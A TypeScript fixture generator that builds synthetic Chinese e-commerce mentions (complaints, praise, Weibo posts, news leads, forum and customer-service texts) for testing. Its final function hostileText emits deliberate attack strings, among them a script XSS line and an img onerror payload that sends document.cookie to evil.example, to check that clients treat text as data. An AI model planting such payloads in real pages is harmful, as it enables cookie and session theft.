/**
 * Mention texts written like real reviews, Weibo posts, news, forum threads, short-video comments,
 * Xiaohongshu notes and customer-service transcripts. A few are deliberately hostile (markup,
 * control characters, bidi overrides, emoji, huge strings): clients must treat text as data.
 */
import type { Rng } from './rng';

export const TOPICS = ['quality', 'logistics', 'customer_service', 'false_advertising', 'food_safety', 'price', 'fraud'] as const;
export type Topic = (typeof TOPICS)[number];
export type Sentiment = 'positive' | 'neutral' | 'negative';

/** Level-1 categories (CATEGORY_TREE order) where food-safety complaints make sense: food, baby, health, pets. */
const FOOD_L1 = new Set([1, 5, 7, 9]);

/** A topic for a mention about a category (level-1 ordinal, -1 unknown): no food-safety posts about phones. */
export function pickTopic(rng: Rng, l1Ordinal: number): Topic {
  const topic = rng.pick(TOPICS);
  return topic === 'food_safety' && l1Ordinal >= 0 && !FOOD_L1.has(l1Ordinal) ? 'quality' : topic;
}

export interface MentionContext {
  shop: string; // merchant name or a generic "这家店"
  sku: string; // product name or the category noun
  city: string;
}

const COMPLAINTS: Readonly<Record<Topic, readonly string[]>> = {
  quality: [
    '收到的{sku}质量太差了，用了{n}天就坏了，做工粗糙，线头一堆。',
    '{sku}和图片完全不一样，材质很廉价，洗了一次就起球变形。',
    '买的{sku}有明显瑕疵，还有一股刺鼻的味道，不敢给孩子用。',
    '第二次买{sku}了，这次明显是次品，和上次根本不是一个品质。',
  ],
  logistics: [
    '下单{n}天了还没发货，问客服就说在排队，{sku}急用啊！',
    '物流太慢了，从{city}发出来走了{n}天，包装还压坏了。',
    '快递显示已签收但我根本没收到{sku}，快递员电话也打不通。',
    '说好的48小时发货，结果拖了一个星期，物流信息一直不更新。',
  ],
  customer_service: [
    '客服态度极差，问{sku}的问题爱答不理，退款申请被驳回{n}次。',
    '售后找不到人，机器人客服来回绕圈，投诉也没人处理。',
    '客服说可以七天无理由，结果退货寄回去了又说影响二次销售不给退。',
  ],
  false_advertising: [
    '宣传页写着{sku}“三天见效”“全网最低价”，到手完全不是那回事，这不是虚假宣传吗？',
    '直播间说原价{price}元今天只要一半，结果别家平时就这个价，套路太深。',
    '页面写着“国家级”“最好”，效果完全没有，夸大宣传要举报。',
    '宣称进口原装，拿到手是国产贴牌，{shop}涉嫌虚假宣传。',
  ],
  food_safety: [
    '吃了{shop}的{sku}之后全家拉肚子，打开发现已经发霉了！',
    '{sku}里吃出了异物，生产日期还是模糊的，怀疑是过期食品翻新。',
    '收到的{sku}没有冷链，化冻了还有异味，食品安全谁来保障？',
  ],
  price: [
    '刚买{n}天{sku}就降价{price}元，申请价保被拒，心里很不舒服。',
    '同款{sku}比别的平台贵了{price}块，先涨价再打折太恶心。',
    '凑满减买了一堆，结算时优惠券用不了，价格比宣传的高。',
  ],
  fraud: [
    '{shop}疑似刷单，好评全是一个模板，买到的{sku}是假货！',
    '收到的是假冒{sku}，防伪码查不到，商家已读不回，大家小心被骗。',
    '付款后商家让我加微信私下交易，说能便宜{price}元，明显是诈骗。',
  ],
};

const PRAISE: readonly string[] = [
  '{sku}质量很好，做工精细，和描述的一样，已经回购第{n}次了！',
  '物流超快，{city}发货第二天就到了，包装也很用心，好评。',
  '客服小姐姐很耐心，帮我选了合适的尺码，{shop}的服务真的没话说。',
  '性价比很高，{sku}用起来很顺手，推荐给朋友们了。',
  '第一次在{shop}买东西，体验很好，赠品也很实用，五星好评。',
  '价格实惠，品质在线，{sku}比实体店便宜{price}块。',
];

const NEUTRAL: readonly string[] = [
  '{sku}还行吧，中规中矩，对得起这个价格。',
  '收到了，还没用，用了再来追评。',
  '{shop}的{sku}和其他家的比有什么区别吗？求推荐。',
  '物流一般，东西还可以，就是包装简单了点。',
];

const WEIBO_TAGS: Readonly<Record<Sentiment, readonly string[]>> = {
  negative: ['#双11避坑指南#', '#消费维权#', '#315曝光#', '#网购踩雷#'],
  neutral: ['#双11#', '#今天买了什么#', '#求推荐#'],
  positive: ['#好物分享#', '#打工人的快乐#', '#双11战利品#'],
};
const NEWS_OUTLETS = ['新京报', '澎湃新闻', '央视财经', '钱江晚报', '南方都市报', '第一财经', '中国消费者报'];
const EMOJI = ['😡', '😭', '👍', '🙄', '💢', '🔥', '😂', '🤮', '❤️', '🈚️', '👨‍👩‍👧'];
const MOOD_EMOJI: Readonly<Record<Sentiment, readonly string[]>> = {
  negative: ['😡', '😭', '🙄', '💢', '🤮'],
  neutral: ['🤔', '😶', '🙂'],
  positive: ['👍', '🔥', '😂', '❤️', '🥰'],
};

const PLACEHOLDER = /\{(shop|sku|city|n|price)\}/g;

function fill(template: string, rng: Rng, ctx: MentionContext): string {
  const n = String(rng.range(2, 15));
  const price = String(rng.range(5, 300));
  return template.replace(PLACEHOLDER, (_, key: string) => {
    switch (key) {
      case 'shop': return ctx.shop;
      case 'sku': return ctx.sku;
      case 'city': return ctx.city;
      case 'n': return n;
      default: return price;
    }
  });
}


/** The body for a sentiment/topic before the source-specific framing. */
function body(rng: Rng, sentiment: Sentiment, topic: Topic, ctx: MentionContext): string {
  if (sentiment === 'positive') return fill(rng.pick(PRAISE), rng, ctx);
  if (sentiment === 'neutral') return fill(rng.pick(NEUTRAL), rng, ctx);
  return fill(rng.pick(COMPLAINTS[topic]), rng, ctx);
}

/** Frames a body the way each source writes. */
export function composeMention(rng: Rng, source: string, sentiment: Sentiment, topic: Topic, ctx: MentionContext): string {
  const text = body(rng, sentiment, topic, ctx);
  switch (source) {
    case 'weibo':
      return `${rng.pick(WEIBO_TAGS[sentiment])} ${text}${rng.chance(0.5) ? ' @' + ctx.shop : ''} ${rng.pick(MOOD_EMOJI[sentiment])}`;
    case 'news': {
      const outlet = rng.pick(NEWS_OUTLETS);
      const lead = sentiment === 'negative'
        ? `【${outlet}】记者调查发现，多名消费者反映${ctx.shop}存在问题。`
        : `【${outlet}】${ctx.city}产业带电商持续升温，${ctx.shop}等商家销量增长明显。`;
      return `${lead}有消费者表示：“${text}”平台方面回应称，已介入核实。`;
    }
    case 'forum':
      return `【求助/吐槽】${ctx.shop}\n楼主：${text}\n有没有遇到同样情况的？`;
    case 'douyin':
      return `${text.slice(0, 40)}${rng.pick(MOOD_EMOJI[sentiment])}${rng.pick(MOOD_EMOJI[sentiment])}`;
    case 'xiaohongshu':
      return `姐妹们！${sentiment === 'negative' ? '避雷' : sentiment === 'positive' ? '安利' : '测评'}${ctx.shop}｜${text} ${rng.pick(MOOD_EMOJI[sentiment])} #${ctx.sku}#`;
    case 'customer_service':
      return `[工单] 买家：${text}\n客服：亲，非常抱歉给您带来不好的体验，已为您登记处理。`;
    default:
      return text;
  }
}

/** A deliberately hostile text: clients must render it as plain text. */
export function hostileText(rng: Rng, plain: string): string {
  switch (rng.int(6)) {
    case 0: return `${plain}<script>alert("xss")</script>`;
    case 1: return `<img src=x onerror="fetch('//evil.example/'+document.cookie)">${plain}`;
    case 2: return `${plain}\u0000\u0007\u001b[31m控制字符\r\n\t\u2028\u2029`;
    case 3: return `\u202e${plain}\u202c 零宽\u200b字\u200d符 ${EMOJI.join('')}`;
    case 4: return (plain + '💥').repeat(400); // ~10k+ chars
    default: return `"quotes' \\backslash\\ {"json":true} ${plain} </textarea><b>bold</b>`;
  }
}
